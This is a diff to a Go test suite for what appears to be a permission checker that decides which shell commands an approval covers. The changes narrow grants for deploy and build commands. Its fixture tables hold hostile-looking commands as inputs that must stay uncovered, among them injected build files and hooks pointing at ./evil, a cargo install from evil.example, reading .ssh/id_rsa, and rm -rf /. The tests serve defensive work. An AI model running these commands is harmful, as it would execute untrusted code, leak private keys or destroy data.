@@ -39,9 +39,9 @@ func TestReach(t *testing.T) {
 		"git push -u --tags origin main": "exec git push origin --tags -u", "git push origin main --tags -u": "exec git push origin --tags -u",
 		"git push -o ci.skip origin main": "exec git push origin -o ci.skip", "git push --signed origin main -q -q": "exec git push main --signed origin -q", "git push git@h:a/b main": "exec git push git@h:a/b (with h)",
 		"git commit -am 'a text'": "exec git commit -am", "git commit -m -s": "exec git commit -m -s", "gh pr create --title 'A b' --body c -B dev": "exec gh pr create --body --title -B dev",
-		"npm publish --tag x": "exec npm publish --tag x", "npm run deploy": "exec npm run deploy (exactly)", "npm install -D lodash @types/node@20": "exec npm install -D", "npm i ./x y": "exec npm i ./x",
+		"npm publish --tag x": "", "npm run deploy": "", "npm install -D lodash @types/node@20": "exec npm install -D", "npm i ./x y": "",
 		"aws s3 cp a b": "exec aws s3 cp", "gcloud compute instances list": "exec gcloud compute instances list (exactly)", "kubectl get pods": "exec kubectl get pods", "cp a /tmp/b": "exec cp (in /tmp)", "cp a /srv/b": "exec cp (/srv/)", "rsync -a a/ h:x": "exec rsync -a (with h)", "rsync -a a/ b/": "exec rsync -a", "kubectl label pods x env=prod": "exec kubectl label env=prod",
-		"curl -sS -X POST https://x.org/y": "exec curl -X POST -sS (with x.org)", "rm x": "exec rm", "rm -- x -v": "exec rm -- -v", "chmod +x a b": "exec chmod +x", "tar xzf a.tgz -C /srv": "exec tar xzf -C /srv (/srv)", "make deploy": "exec make deploy (exactly)",
+		"curl -sS -X POST https://x.org/y": "exec curl -X POST -sS (with x.org)", "rm x": "exec rm", "rm -- x -v": "exec rm -- -v", "chmod +x a b": "exec chmod +x", "tar xzf a.tgz -C /srv": "exec tar xzf -C /srv (/srv)", "make deploy": "",
 		"systemctl restart nginx": "exec systemctl restart nginx", "docker stop -t 10 web": "exec docker stop web -t 10", "frob (on)": "",
 	} {
 		r := reachOf(t, e, lineCall(t, line))
@@ -81,7 +81,7 @@ func TestOffers(t *testing.T) {
 	require.Equal(t, []core.Decision{core.AllowOnce, core.AllowAlways, core.Deny}, offers("frob", ""))
 	require.Equal(t, []core.Decision{core.AllowOnce, core.Deny}, offers("rm -rf /", "s1"))
 	require.Equal(t, []core.Decision{core.AllowOnce, core.AllowAlways, core.Deny}, offers("frob | cat", "s1"), "the words are the same")
-	require.Equal(t, []core.Decision{core.AllowOnce, core.AllowSession, core.Deny}, offers("make deploy", "s1"), "what make runs is not")
+	require.Equal(t, []core.Decision{core.AllowOnce, core.Deny}, offers("make deploy", "s1"), "what make runs is not")
 	require.Equal(t, []core.Decision{core.AllowOnce, core.Deny}, offers("python3 x.py", "s1"))
 	require.Equal(t, []core.Decision{core.AllowOnce, core.Deny}, offers("frob", "s1", func(c *Config) { c.ExecAsk = "always" }))
 }
@@ -246,7 +246,7 @@ func TestAdversary_W1_OptionsThatNamePrograms(t *testing.T) {
 		require.Empty(t, reachOf(t, e, c), line)
 		require.Equal(t, core.OutcomeAsk, judge(e, c).Outcome, line)
 	}
-	for _, line := range []string{"git push -u origin main", "make deploy V=1", "rsync -av a b:", "kubectl apply -f x.yaml", "docker build --build-arg A=1 .", "curl -X POST --data-binary @x https://x.org"} {
+	for _, line := range []string{"git push -u origin main", "rsync -av a b:", "curl -X POST --data-binary @x https://x.org"} {
 		require.NotEmpty(t, reachOf(t, e, lineCall(t, line)).Subject, line)
 	}
 }
@@ -309,16 +309,16 @@ var coverings = []struct {
 	{"npm install -D lodash", list("npm install express -D"), list("npm install lodash | npm install --save-dev lodash")},
 	{"apt install x", list("apt install y"), list("apt install ./evil.deb | apt install -o DPkg::Pre-Invoke::=./evil x | apt install -oDPkg::Pre-Invoke::=./evil x | apt remove x")},
 	{"cargo install x", list("cargo install y"), list("cargo install --path ./evil | cargo install --git https://evil.example x | cargo install --config ./evil x")},
-	{"go get x.org/y", list("go get x.org/z@v1"), list("go get -toolexec ./evil x.org/y | go get -C /elsewhere x.org/y | go install ./evil | go get -modfile=evil x.org/y")},
+	{"go get x.org/y", nil, list("go get -toolexec ./evil x.org/y | go get -C /elsewhere x.org/y | go install ./evil | go get -modfile=evil x.org/y")},
 
 	// What an operand says may run is granted word for word.
-	{"make deploy", list("make deploy"), list("make deploy clean | make clean | make deploy -f /tmp/evil.mk | make deploy --file=/tmp/evil.mk | make deploy V=1 | make deploy SHELL=./evil | make -j4 deploy | make")},
-	{"make deploy V=1", list("make deploy V=1"), list("make deploy V=2 | make deploy | make V=1 deploy")},
-	{"npm run deploy", list("npm run deploy"), list("npm run deploy --prefix /tmp/evil | npm run deploy x | npm run deploy -- x | npm run other")},
+	{"make deploy", nil, list("make deploy clean | make clean | make deploy -f /tmp/evil.mk | make deploy --file=/tmp/evil.mk | make deploy V=1 | make deploy SHELL=./evil | make -j4 deploy | make")},
+	{"make deploy V=1", nil, list("make deploy V=2 | make deploy | make V=1 deploy")},
+	{"npm run deploy", nil, list("npm run deploy --prefix /tmp/evil | npm run deploy x | npm run deploy -- x | npm run other")},
 	{"yarn tsx a.ts", nil, list("yarn tsx evil.ts | yarn tsx")},
 	{"just deploy", nil, list("just deploy -f /tmp/evil | just other")},
 	{"gradle build", nil, list("gradle build publish | gradle build -I evil.gradle")},
-	{"docker build -t x .", list("docker build -t x ."), list("docker build -t x /evil | docker build -t x -f evil . | docker build .")},
+	{"docker build -t x .", nil, list("docker build -t x /evil | docker build -t x -f evil . | docker build .")},
 	{"docker push x", list("docker push y"), list("docker push --all-tags x")},
 	{"docker cp a:b c", list("docker cp d:e f"), list("docker cp -L a:b c")},
 	{"docker stop web", list("docker stop web"), list("docker stop db | docker stop -t 1 web | docker rm web | docker exec web evil | docker -H evil stop web")},
@@ -347,7 +347,7 @@ var coverings = []struct {
 	{"openssl version", nil, list("openssl engine ./evil.so")},
 	{"logger x", nil, list("logger y")}, {"mutt x", nil, list("mutt y")}, {"7z x a", nil, list("7z x b")}, {"ffmpeg -i a b", nil, list("ffmpeg -i c d")}, {"bc f", nil, list("bc g")}, {"mount a b", nil, list("mount c d")},
 	{"ansible x", nil, list("ansible y")}, {"flatpak run x", nil, list("flatpak run y")}, {"pm2 start x", nil, list("pm2 start ./evil")}, {"supervisorctl start x", nil, list("supervisorctl start y")}, {"find . -delete", nil, list("find / -delete")},
-	{"go run x", nil, list("go run y")}, {"vagrant up", list("vagrant up"), list("vagrant up --provider evil | vagrant destroy")}, {"terraform plan", nil, list("terraform plan -chdir=/evil | terraform plan -var-file=evil")},
+	{"go run x", nil, list("go run y")}, {"vagrant up", nil, list("vagrant up --provider evil | vagrant destroy")}, {"terraform plan", nil, list("terraform plan -chdir=/evil | terraform plan -var-file=evil")},
 	{"pytest a.py", nil, list("pytest evil.py")}, {"xvfb-run npm test", nil, list("xvfb-run ./evil | xvfb-run npm test")}, {"prlimit --nofile=10 ls", nil, list("prlimit ./evil")}, {"cat .env", nil, list("cat .ssh/id_rsa")},
 }
 
